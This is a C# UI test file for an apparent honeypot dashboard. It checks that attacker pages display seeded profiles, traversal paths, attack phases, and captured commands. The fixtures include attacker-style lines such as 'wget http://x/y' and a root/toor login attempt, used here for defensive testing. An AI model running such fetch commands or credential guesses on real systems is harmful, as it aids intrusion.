using Bunit;
using Decnet.Core.Attackers;
using Decnet.Core.Notifications;
using Decnet.Core.Users;
using Decnet.Tests.Web.Components;
using Decnet.Web.Attackers.Pages;
using Microsoft.Extensions.DependencyInjection;

namespace Decnet.Tests.Attackers;

public sealed class AttackerPagesTests : ComponentTestContext
{
    public override async ValueTask InitializeAsync()
    {
        await base.InitializeAsync();
        Services.AddSingleton(Bed.Services.GetRequiredService<AttackerDirectory>());
        Services.AddSingleton(Bed.Services.GetRequiredService<NotificationHub>());
        Services.AddSingleton(Bed.Services.GetRequiredService<Decnet.Core.Recordings.SessionRecordings>());
        SignIn(await Bed.CreateActiveUserAsync("viewer", "viewer-password-1", UserRole.Viewer));
    }

    private async Task SeedAsync()
    {
        await AttackerSeed.AddAsync(Bed.Services, AttackerSeed.Scenario());
        await Bed.Services.GetRequiredService<AttackerProfiler>().RunOnceAsync(CancellationToken.None);
    }

    private async Task<Attacker> AttackerAsync(string ip) =>
        (await Bed.Services.GetRequiredService<AttackerDirectory>().ListAsync(new AttackerQuery(Search: ip), CancellationToken.None)).Data.Single();

    [Fact]
    public async Task The_list_renders_a_card_per_attacker_with_traversal_badge_and_behaviour_and_filters_by_ip()
    {
        await SeedAsync();
        var page = Render<AttackerList>();

        page.WaitForAssertion(() => Assert.Equal(2, page.FindAll("[data-testid=attacker-card]").Count));
        var cards = page.FindAll("[data-testid=attacker-card]");
        Assert.Contains("198.51.100.7", cards[0].TextContent, StringComparison.Ordinal);
        Assert.Single(page.FindAll("[data-testid=traversal-badge]"));
        Assert.Contains("decky-01 → decky-02", cards[0].TextContent, StringComparison.Ordinal);
        Assert.Contains("7 events", cards[0].QuerySelector("[data-testid=attacker-counts]")!.TextContent, StringComparison.Ordinal);
        Assert.Equal(2, page.FindAll("[data-testid=behavior-class]").Count);

        page.Find("[data-testid=ip-search]").Change("203.0");
        page.WaitForAssertion(() => Assert.Single(page.FindAll("[data-testid=attacker-card]")));
        Assert.Contains("203.0.113.9", page.Find("[data-testid=attacker-ip]").TextContent, StringComparison.Ordinal);

        page.Find("[data-testid=ip-search]").Change("");
        page.Find("[data-testid=service-filter]").Change("ssh");
        // The list of the earlier search also has one card: wait for the ssh attacker's.
        page.WaitForAssertion(() =>
        {
            Assert.Single(page.FindAll("[data-testid=attacker-card]"));
            Assert.Contains("198.51.100.7", page.Find("[data-testid=attacker-ip]").TextContent, StringComparison.Ordinal);
        });
    }

    [Fact]
    public async Task The_list_reloads_when_profiles_are_updated()
    {
        var page = Render<AttackerList>();
        page.WaitForAssertion(() => page.Find("[data-testid=attackers-empty]"));

        await SeedAsync();
        Bed.Services.GetRequiredService<NotificationHub>().Publish(new AttackerUpdated(["198.51.100.7"]));

        page.WaitForAssertion(() => Assert.Equal(2, page.FindAll("[data-testid=attacker-card]").Count), TimeSpan.FromSeconds(10));
    }

    [Fact]
    public async Task The_detail_shows_counters_traversal_behaviour_commands_and_artifacts()
    {
        await SeedAsync();
        var attacker = await AttackerAsync("198.51.100.7");

        var page = Render<AttackerDetail>(p => p.Add(x => x.Id, attacker.Id));

        page.WaitForAssertion(() => Assert.Equal("198.51.100.7", page.Find("[data-testid=detail-ip]").TextContent.Trim()));
        Assert.Equal("7", page.Find("[data-testid=counter-events]").TextContent.Trim());
        Assert.Equal("Yes", page.Find("[data-testid=counter-traversal]").TextContent.Trim());
        Assert.Equal("1", page.Find("[data-testid=counter-credentials]").TextContent.Trim());
        Assert.Equal("decky-01 → decky-02", page.Find("[data-testid=traversal-path]").TextContent.Trim());
        Assert.Contains("libssh", page.Find("[data-testid=tool-guesses]").TextContent, StringComparison.Ordinal);
        Assert.Contains("recon → credential_access → execution → exfiltration", page.Find("[data-testid=phase-sequence]").TextContent, StringComparison.Ordinal);
        page.Find("[data-testid=timing-stats]");
        Assert.Contains("SSH-2.0-libssh", page.Find("[data-testid=fingerprints]").TextContent, StringComparison.Ordinal);

        var rows = page.FindAll("[data-testid=commands] tbody tr");
        Assert.Equal(3, rows.Count);
        Assert.Contains("wget http://x/y", rows[0].TextContent, StringComparison.Ordinal);
        Assert.Contains("uname -a", rows[2].TextContent, StringComparison.Ordinal);
        Assert.Contains("/tmp/y", page.Find("[data-testid=artifacts]").TextContent, StringComparison.Ordinal);

        page.Find("[data-testid=command-service]").Change("http");
        page.WaitForAssertion(() => page.Find("[data-testid=commands-empty]"));
    }

    [Fact]
    public async Task Recon_to_exfiltration_is_the_time_before_the_upload_even_when_the_session_closes_long_after()
    {
        // The session that showed "Recon end to exfiltration: -40.993 s": the disconnect came 41 s after the upload.
        await AttackerSeed.AddAsync(Bed.Services,
            AttackerSeed.Log(0, "decky-01", "ssh", "connect", "192.0.2.41", """{"client_version":"SSH-2.0-OpenSSH_9.2"}"""),
            AttackerSeed.Log(2, "decky-01", "ssh", "auth_attempt", "192.0.2.41", """{"username":"root","password":"toor"}"""),
            AttackerSeed.Log(4, "decky-01", "ssh", "command", "192.0.2.41", """{"cmd":"uname -a"}"""),
            AttackerSeed.Log(9, "decky-01", "ssh", "file_captured", "192.0.2.41", """{"path":"/tmp/x","size":"10"}"""),
            AttackerSeed.Log(50, "decky-01", "ssh", "disconnect", "192.0.2.41"));
        await Bed.Services.GetRequiredService<AttackerProfiler>().RunOnceAsync(CancellationToken.None);
        var attacker = await AttackerAsync("192.0.2.41");

        var page = Render<AttackerDetail>(p => p.Add(x => x.Id, attacker.Id));

        page.WaitForAssertion(() => Assert.Contains("exfiltration", page.Find("[data-testid=phase-sequence]").TextContent, StringComparison.Ordinal));
        var latency = page.Find("[data-testid=exfil-latency]").TextContent;
        Assert.Contains("Recon end to exfiltration: 9 s", latency, StringComparison.Ordinal);
        Assert.DoesNotContain("-", latency.Split(':')[1], StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_detail_pages_commands()
    {
        var rows = Enumerable.Range(0, AttackerDetail.CommandPageSize + 5)
            .Select(i => AttackerSeed.Log(i, "decky-01", "ssh", "command", "192.0.2.77", $$"""{"cmd":"echo {{i}}"}"""))
            .ToArray();
        await AttackerSeed.AddAsync(Bed.Services, rows);
        await Bed.Services.GetRequiredService<AttackerProfiler>().RunOnceAsync(CancellationToken.None);
        var attacker = await AttackerAsync("192.0.2.77");

        var page = Render<AttackerDetail>(p => p.Add(x => x.Id, attacker.Id));

        page.WaitForAssertion(() => Assert.Equal(AttackerDetail.CommandPageSize, page.FindAll("[data-testid=commands] tbody tr").Count));
        page.Find("[data-testid=commands-next]").Click();
        page.WaitForAssertion(() => Assert.Equal(5, page.FindAll("[data-testid=commands] tbody tr").Count));
        Assert.Contains("echo 4", page.FindAll("[data-testid=commands] tbody tr")[0].TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public void An_unknown_attacker_shows_a_not_found_message()
    {
        var page = Render<AttackerDetail>(p => p.Add(x => x.Id, Guid.NewGuid()));
        page.WaitForAssertion(() => page.Find("[data-testid=attacker-missing]"));
    }
}
